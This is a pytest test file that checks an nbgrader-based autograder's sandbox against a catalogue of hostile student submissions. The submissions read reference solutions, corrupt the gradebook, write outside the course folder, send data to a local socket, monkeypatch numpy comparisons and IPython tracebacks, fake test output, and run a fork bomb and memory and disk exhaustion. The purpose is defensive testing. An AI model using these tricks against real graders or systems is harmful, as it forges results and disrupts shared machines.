"""A catalogue of hostile submissions, graded end to end in one batch with two well-behaved ones.

Each hostile submission starts from the untouched release (every function a stub), so
every point it gets is a forged one: the expectation is 0 autograded points, a grader
that survives, well-behaved students graded exactly as when alone, and instructor files
unchanged (by hash). Resource attacks run only where the sandbox's limits are in force.
"""
import socket
import threading

import pytest

from kit import sandbox
from kit.course import Course
from kit_helpers import (REPO, gradebook_auto_scores, collect_all, grade, graded_cells, notebook,
                         reference_submission, save_notebook, scores, total, tree_hashes,
                         untouched_submission)

pytestmark = pytest.mark.slow
ISOLATED, WHY_NOT = sandbox.isolation_status()


def pids_cgroup_available():
    """Can this machine give a kernel a pids cgroup (which counts process-limit hits)?"""
    import logging
    cgroups = sandbox.Cgroups(sandbox.Limits(), logging.getLogger(__name__)).create()
    try:
        return cgroups.pids is not None
    finally:
        cgroups.remove()


PIDS_CGROUP = pids_cgroup_available()


def prepend(folder, module, code):
    path = folder / "classifiers" / module
    path.write_text(code + "\n" + path.read_text())


def replace_function(folder, module, name, code):
    """Append a new definition of `name` to the module: the last definition wins."""
    path = folder / "classifiers" / module
    path.write_text(path.read_text() + "\n\n" + code + "\n")


CHEATS = {
    # Inside the function, so that what it prints lands in the graded test cell's output.
    "read_reference": lambda sub, ctx: replace_function(sub, "linear_svm.py", "svm_loss_naive", (
        "def svm_loss_naive(W, X, y, reg):\n"
        "    guesses = ['../../../source/linear_classifiers/classifiers/linear_svm.py', {src!r}]\n"
        "    for path in guesses:\n"
        "        try:\n            print('LEAKED', open(path).read()[:40])\n"
        "        except OSError:\n            print('DENIED')\n"
        "    raise NotImplementedError\n"
    ).format(src=ctx["source_file"])),
    # The grader's own independent losses (kit/reference.py) would pass every check.
    "grader_reference": lambda sub, ctx: replace_function(sub, "linear_svm.py", "svm_loss_vectorized", (
        "def _grader_reference():\n"
        "    try:\n        import kit.reference as ref\n        print('LEAKED import')\n        return ref\n"
        "    except ImportError:\n        print('DENIED import')\n"
        "    import runpy\n"
        "    for path in [{ref!r}, 'kit/reference.py', '../kit/reference.py']:\n"
        "        try:\n            found = runpy.run_path(path)\n            print('LEAKED', path)\n"
        "            return type('ref', (), {{'svm_loss': staticmethod(found['svm_loss'])}})\n"
        "        except OSError:\n            print('DENIED', path)\n"
        "    raise NotImplementedError\n"
        "def svm_loss_vectorized(W, X, y, reg):\n"
        "    return _grader_reference().svm_loss(W, X, y, reg)\n"
        "svm_loss_naive = svm_loss_vectorized\n"
    ).format(ref=ctx["kit_reference"])),
    "gradebook": lambda sub, ctx: prepend(sub, "linear_svm.py", (
        "for _p in [{db!r}]:\n"
        "    try:\n        open(_p, 'r+b').write(b'garbage')\n    except OSError:\n        pass\n"
    ).format(db=ctx["gradebook"])),
    "write_outside": lambda sub, ctx: prepend(sub, "linear_svm.py", (
        "for _p in [{a!r}, '/tmp/kit_hostile_marker', '../../kit_hostile_marker']:\n"
        "    try:\n        open(_p, 'w').write('x')\n    except OSError:\n        pass\n"
    ).format(a=ctx["outside_file"])),
    "network": lambda sub, ctx: prepend(sub, "linear_svm.py", (
        "import socket\n"
        "try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
        "except OSError:\n    pass\n"
    ).format(port=ctx["port"])),
    "loop_at_import": lambda sub, ctx: prepend(sub, "softmax.py", "while True:\n    pass\n"),
    "exit_at_import": lambda sub, ctx: prepend(sub, "linear_svm.py", "import os\nos._exit(0)\n"),
    "showtraceback": lambda sub, ctx: prepend(sub, "linear_svm.py", (
        "try:\n    get_ipython().showtraceback = lambda *a, **k: None\n"
        "    get_ipython().CustomTB = None\nexcept NameError:\n    pass\n")),
    "input_transformer": lambda sub, ctx: prepend(sub, "linear_svm.py", (
        "def _swallow(lines):\n"
        "    return ['try:\\n'] + ['    ' + l for l in lines] + ['\\nexcept BaseException:\\n    pass\\n']\n"
        "try:\n    get_ipython().input_transformers_post.append(_swallow)\nexcept NameError:\n    pass\n")),
    "always_equal": lambda sub, ctx: replace_function(sub, "linear_svm.py", "svm_loss_naive", (
        "class _Liar(float):\n"
        "    def __eq__(self, other): return True\n"
        "    def __ne__(self, other): return False\n"
        "    def __lt__(self, other): return True\n"
        "    def __le__(self, other): return True\n"
        "    def __gt__(self, other): return True\n"
        "    def __abs__(self): return _Liar(0.0)\n"
        "    def __sub__(self, other): return _Liar(0.0)\n"
        "    __rsub__ = __sub__\n"
        "def svm_loss_naive(W, X, y, reg):\n"
        "    return _Liar(9.0), _Liar(0.0)\n")),
    "lying_array": lambda sub, ctx: replace_function(sub, "linear_svm.py", "svm_loss_vectorized", (
        "import numpy as _np\n"
        "class _Lies(_np.ndarray):\n"
        "    def __array_ufunc__(self, ufunc, method, *inputs, **kw):\n"
        "        return _np.zeros(1)\n"
        "def svm_loss_vectorized(W, X, y, reg):\n"
        "    return _np.float64(9.0), _np.zeros(W.shape).view(_Lies)\n")),
    "patch_numpy": lambda sub, ctx: prepend(sub, "linear_svm.py", (
        "import numpy\nnumpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda *a, **k: True\n"
        "import numpy.testing\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
        "try:\n    import utils.gradient_check as _g\n    _g.rel_error = lambda *a, **k: 0.0\n"
        "except Exception:\n    pass\n")),
    "fake_output": lambda sub, ctx: prepend(sub, "linear_svm.py", (
        "print('All tests passed! 30 / 30 points')\n"
        "import sys\nsys.stderr.write('')\n")),
    "no_test_cells": lambda sub, ctx: drop_cells(sub, lambda c: True),
    "stripped_metadata": lambda sub, ctx: strip_metadata(sub),
}
# The cheats graded through `nbgrader autograde` too: those aimed at the notebook, its
# outputs and metadata, the kernel's display of errors, the gradebook nbgrader itself opens,
# the host around the course and a kernel that dies; the others (wrong values dressed up as
# right ones) meet the same sandboxed runner and trusted checks on both paths.
NBGRADER_PATH_CHEATS = ("gradebook", "write_outside", "network", "exit_at_import", "showtraceback",
                        "input_transformer", "fake_output", "no_test_cells", "stripped_metadata")

RESOURCE_CHEATS = {
    "fork_bomb": "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        break\n",
    "huge_alloc": "_blob = bytearray(50 * 2**30)\n",
    "huge_file": "open('big.bin', 'wb').truncate(0)\n"
                 "with open('big.bin', 'wb') as _f:\n"
                 "    for _ in range(10 * 1024):\n        _f.write(b'0' * 2**20)\n",
}


def drop_cells(sub, which):
    for name in ("svm.ipynb", "softmax.ipynb"):
        nb = notebook(sub, name)
        tests = graded_cells(nb)
        nb["cells"] = [c for c in nb["cells"] if not (c in tests and which(c))]
        save_notebook(sub, name, nb)


def strip_metadata(sub):
    for name in ("svm.ipynb", "softmax.ipynb"):
        nb = notebook(sub, name)
        for cell in nb["cells"]:
            cell["metadata"].pop("nbgrader", None)
            if "BEGIN" not in "".join(cell["source"]):
                cell["source"] = "pass"
        save_notebook(sub, name, nb)


class Listener:
    """A TCP listener on 127.0.0.1 that records whether anything connected."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port, self.connections, self.stop = self.sock.getsockname()[1], 0, False
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module")
def graded(tmp_path_factory, cifar10_dir, released_course):
    root = tmp_path_factory.mktemp("hostile")
    course = released_course
    subs = root / "subs"
    subs.mkdir()
    listener = Listener()
    outside = root / "outside_file"
    ctx = {"source_file": str(Course(course).source / "classifiers" / "linear_svm.py"),
           "gradebook": str(course / "gradebook.db"), "outside_file": str(outside),
           "port": listener.port, "kit_reference": str(REPO / "kit" / "reference.py")}
    cheats = dict(CHEATS)
    if ISOLATED:
        for name, code in RESOURCE_CHEATS.items():
            cheats[name] = lambda sub, ctx, code=code: prepend(sub, "linear_svm.py", code)
    else:
        print(f"resource attacks not run: the sandbox is not available here ({WHY_NOT})")
    for name, make in cheats.items():
        make(untouched_submission(course, subs / name), ctx)
    reference_submission(course, subs / "honest")
    reference_submission(course, subs / "honest_alone")
    collect_all(course, [subs / n for n in [*cheats, "honest"]])
    collect_all(course, [subs / "honest_alone"])

    protected = {"source": tree_hashes(Course(course).source), "release": tree_hashes(Course(course).release),
                 "honest": tree_hashes(Course(course).submitted("honest"))}
    try:
        batch = grade(course, [*cheats, "honest"], cifar10_dir, run_notebooks=False, cell_timeout=10)
        alone = grade(course, ["honest_alone"], cifar10_dir, run_notebooks=False, jobs=1)
    finally:
        listener.close()
    return {"course": course, "batch": batch, "alone": alone["honest_alone"], "cheats": cheats,
            "protected": protected, "listener": listener, "outside": outside,
            "cifar10_dir": cifar10_dir}


def test_no_forged_points(graded):
    forged = {name: scores(graded["batch"][name]) for name in graded["cheats"]
              if total(graded["batch"][name])[0] > 0}
    assert not forged


def test_honest_student_graded_as_when_alone(graded):
    honest = graded["batch"]["honest"]
    assert scores(honest) == scores(graded["alone"])
    got, most = total(honest)
    assert got == most > 0


def test_instructor_files_unchanged(graded):
    course = graded["course"]
    assert tree_hashes(Course(course).source) == graded["protected"]["source"]
    assert tree_hashes(Course(course).release) == graded["protected"]["release"]
    assert tree_hashes(Course(course).submitted("honest")) == graded["protected"]["honest"]
    from nbgrader.api import Gradebook
    with Gradebook(Course(course).gradebook_url) as gb:  # still a valid gradebook with every student
        assert {s.id for s in gb.students} >= set(graded["cheats"]) | {"honest"}


def test_sandbox_kept_student_code_inside(graded):
    assert graded["listener"].connections == 0
    assert not graded["outside"].exists()
    for cheat in ("read_reference", "grader_reference"):
        graded_svm = graded["batch"][cheat].notebooks["svm.ipynb"].graded
        assert "LEAKED" not in graded_svm, cheat
        if ISOLATED:
            assert "DENIED" in graded_svm, cheat


def test_every_failure_becomes_a_row(graded):
    import csv
    with open(graded["course"] / "grades.csv", newline="") as f:
        rows = {row["student"]: row for row in csv.DictReader(f)}
    assert set(rows) >= set(graded["cheats"]) | {"honest"}
    assert "timeout" in rows["loop_at_import"]["status"] or "import" in rows["loop_at_import"]["status"]
    assert rows["exit_at_import"]["status"] != "ok"


@pytest.mark.skipif(not ISOLATED, reason=f"sandbox limits not in force here: {WHY_NOT}")
def test_resource_attacks_hit_limits_and_cost_only_their_author(graded):
    for name in RESOURCE_CHEATS:
        assert total(graded["batch"][name])[0] == 0
        assert graded["batch"][name].status != "grader error"


def test_fork_bomb_is_stopped_at_the_process_limit_not_the_timeout(graded):
    """A contained fork bomb would keep every core busy until the cell timeout (10 s here);
    the grader kills the kernel as soon as its sandbox hits the process limit."""
    if "fork_bomb" not in graded["batch"]:
        pytest.skip(f"resource attacks not run: the sandbox is not available here ({WHY_NOT})")
    if not PIDS_CGROUP:
        print("no writable pids cgroup here: process-limit hits are not counted")
        pytest.skip("no writable pids cgroup here: process-limit hits are not counted")
    result = graded["batch"]["fork_bomb"]
    problems = " ".join(p.message for p in result.problems)
    assert "process limit" in problems and "exceeded" in problems, result.problems
    assert "timeout" not in result.status, result.status


@pytest.mark.skipif(not ISOLATED, reason=f"grading refuses without a sandbox: {WHY_NOT}")
def test_nbgrader_autograde_grades_as_the_kit_does(graded):
    """The catalogue through nbgrader's own command, run as an instructor would in the course
    folder (the configuration `kit release` wrote puts the kit's grading in its pipeline):
    the scores nbgrader stores equal the kit's, nothing forged, instructor files unchanged.
    nbgrader grades one submission at a time: the cheats it runs are those aimed at what
    differs on its path (NBGRADER_PATH_CHEATS); the rest meet the same sandboxed runner."""
    import subprocess
    import sys
    course = graded["course"]
    students = [*NBGRADER_PATH_CHEATS, "honest"]
    assert set(NBGRADER_PATH_CHEATS) <= set(CHEATS)
    # The course is the session's shared one: other modules' students are not graded here.
    others = sorted(p.name for p in (course / "submitted").iterdir() if p.name not in students)
    listener = Listener()
    try:
        proc = subprocess.run(
            [sys.executable, "-m", "nbgrader", "autograde", "linear_classifiers", "--force",
             "--KitGrading.tests_only=True", "--KitGrading.cell_timeout=10",
             f"--KitGrading.data_dir={graded['cifar10_dir']}",
             f"--CourseDirectory.student_id_exclude={','.join(others)}"],
            cwd=course, capture_output=True, text=True, timeout=1200)
    finally:
        listener.close()
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    by_nbgrader = gradebook_auto_scores(course, students)
    for student in students:
        assert by_nbgrader[student] == scores(graded["batch"][student]), student
    assert not [s for s in NBGRADER_PATH_CHEATS if sum(v or 0 for v in by_nbgrader[s].values()) > 0]
    assert tree_hashes(Course(course).source) == graded["protected"]["source"]
    assert tree_hashes(Course(course).release) == graded["protected"]["release"]
    assert listener.connections == 0 and not graded["outside"].exists()
